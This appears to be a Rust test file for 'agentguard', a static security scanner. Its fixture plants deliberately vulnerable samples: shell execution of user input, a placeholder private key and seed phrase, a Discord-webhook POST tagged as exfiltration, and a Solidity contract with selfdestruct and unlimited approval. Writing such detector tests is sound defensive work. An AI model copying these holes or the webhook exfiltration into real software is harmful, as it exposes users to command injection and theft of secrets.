//! Static scanner properties: the vulnerable-sample roll-up and scan
//! determinism on unchanged trees.

use agentguard::{RiskLevel, StaticScanner};
use tempfile::TempDir;

fn write(dir: &TempDir, name: &str, content: &str) {
    let path = dir.path().join(name);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(path, content).unwrap();
}

fn vulnerable_tree() -> TempDir {
    let tmp = TempDir::new().unwrap();
    write(
        &tmp,
        "src/runner.js",
        "const { exec } = require('child_process');\nexec(userInput);\n",
    );
    write(
        &tmp,
        "src/wallet.js",
        &format!("const PRIVATE = \"0x{}\";\n", "ab".repeat(32)),
    );
    write(
        &tmp,
        "src/notify.py",
        "import requests\nrequests.post('https://discord.com/api/webhooks/9/zz')\n",
    );
    write(
        &tmp,
        "docs/recovery.md",
        "abandon ability able about above absent absorb abstract absurd abuse access accident\n",
    );
    write(
        &tmp,
        "contracts/Vault.sol",
        "contract Vault {\n  function nuke() external { selfdestruct(payable(msg.sender)); }\n  function approveAll() external { token.approve(router, type(uint256).max); }\n}\n",
    );
    tmp
}

#[tokio::test]
async fn vulnerable_sample_rolls_up_to_critical_with_expected_tags() {
    let tree = vulnerable_tree();
    let report = StaticScanner::new().scan(tree.path()).await.unwrap();

    assert_eq!(report.risk_level, RiskLevel::Critical);
    for tag in [
        "SHELL_EXEC",
        "PRIVATE_KEY_PATTERN",
        "WEBHOOK_EXFIL",
        "MNEMONIC_PATTERN",
        "DANGEROUS_SELFDESTRUCT",
        "UNLIMITED_APPROVAL",
    ] {
        assert!(
            report.risk_tags.iter().any(|t| t == tag),
            "expected tag {tag}, got {:?}",
            report.risk_tags
        );
    }
    assert_eq!(report.files_scanned, 5);
    assert_eq!(report.skipped_files, 0);
}

#[tokio::test]
async fn repeated_scans_are_bit_for_bit_identical() {
    let tree = vulnerable_tree();
    let scanner = StaticScanner::new();

    let first = scanner.scan(tree.path()).await.unwrap();
    let second = scanner.scan(tree.path()).await.unwrap();
    assert_eq!(first, second);

    // Different concurrency must not change the report either.
    let serial = StaticScanner::with_concurrency(1).scan(tree.path()).await.unwrap();
    assert_eq!(first, serial);

    let first_json = serde_json::to_string(&first).unwrap();
    let second_json = serde_json::to_string(&second).unwrap();
    assert_eq!(first_json, second_json);
}

#[tokio::test]
async fn findings_are_ordered_by_path_line_rule() {
    let tree = vulnerable_tree();
    let report = StaticScanner::new().scan(tree.path()).await.unwrap();

    let keys: Vec<(String, usize, String)> = report
        .findings
        .iter()
        .map(|f| (f.file_path.clone(), f.line, f.rule_id.clone()))
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
}

#[tokio::test]
async fn quick_scan_matches_full_scan_risk_for_plain_findings() {
    let tree = vulnerable_tree();
    let scanner = StaticScanner::new();

    let full = scanner.scan(tree.path()).await.unwrap();
    let quick = scanner.quick_scan(tree.path()).await.unwrap();

    assert_eq!(full.risk_level, quick.risk_level);
    assert!(quick.findings.iter().all(|f| f.matched_text.is_empty()));
    assert!(quick.findings.iter().all(|f| f.via.is_none()));
}
